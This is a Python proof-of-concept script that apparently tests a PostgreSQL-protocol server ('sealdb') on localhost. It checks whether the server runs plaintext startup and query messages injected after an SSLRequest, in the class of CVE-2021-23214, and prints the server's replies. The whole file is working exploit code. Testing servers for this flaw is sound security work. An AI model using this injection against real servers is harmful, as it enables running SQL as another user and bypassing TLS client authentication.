"""A man in the middle's injection after an SSLRequest (the class of
CVE-2021-23214): the SSLRequest, then, in the clear and in the same write,
a startup message and a query; then the real client's TLS handshake with
the victim's certificate. A server that read the buffered plaintext as if
it had come over TLS would run the query as the victim.

Standard library only. Prints every message the server sends after the
handshake as `KIND SQLSTATE message` (or just KIND), one per line, until it
closes the connection.

usage: inject_after_sslrequest.py PORT CA CERT KEY USER SQL
"""
import socket
import ssl
import struct
import sys

port, ca, cert, key, user, sql = sys.argv[1:7]
params = b"user\0" + user.encode() + b"\0database\0sealdb\0\0"
startup = struct.pack("!ii", 8 + len(params), 196608) + params
query = sql.encode() + b"\0"
injected = startup + b"Q" + struct.pack("!i", 4 + len(query)) + query
raw = socket.create_connection(("127.0.0.1", int(port)), timeout=10)
raw.sendall(struct.pack("!ii", 8, 80877103) + injected)
answer = raw.recv(1)
print(f"answer to SSLRequest: {answer!r}")
if answer != b"S":
    sys.exit(0)
ctx = ssl.create_default_context(cafile=ca)
ctx.load_cert_chain(cert, key)
tls = ctx.wrap_socket(raw, server_hostname="localhost")


def read_exact(n):
    data = b""
    while len(data) < n:
        try:
            chunk = tls.recv(n - len(data))
        except (ssl.SSLError, OSError):
            chunk = b""
        if not chunk:
            return None
        data += chunk
    return data


while True:
    head = read_exact(5)
    if head is None:
        print("closed")
        break
    kind, length = head[:1].decode(), struct.unpack("!i", head[1:])[0]
    body = read_exact(length - 4) or b""
    if kind in ("E", "N"):
        fields = {f[:1]: f[1:].decode(errors="replace") for f in body.split(b"\0") if f}
        print(kind, fields.get(b"C", "?"), fields.get(b"M", ""))
    else:
        print(kind)
